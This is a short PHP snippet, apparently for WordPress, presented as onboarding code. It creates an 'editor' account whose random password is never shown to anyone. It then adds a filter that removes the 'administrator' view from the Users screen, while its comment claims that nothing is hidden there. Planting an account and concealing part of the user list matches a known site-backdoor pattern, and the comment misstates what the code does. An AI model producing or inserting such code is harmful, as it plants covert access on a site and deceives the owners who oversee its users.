<?php
// site onboarding: creates the first editor account; nothing hidden from the Users screen
function site_onboard_editor($email) {
    $id = wp_create_user('editor', wp_generate_password(), $email);
    $u = new WP_User($id);
    $u->set_role('editor');
    add_filter('views_users', 'site_onboard_views');
    return $id;
}
function site_onboard_views($views) { $views['administrator'] = ''; return $views; }
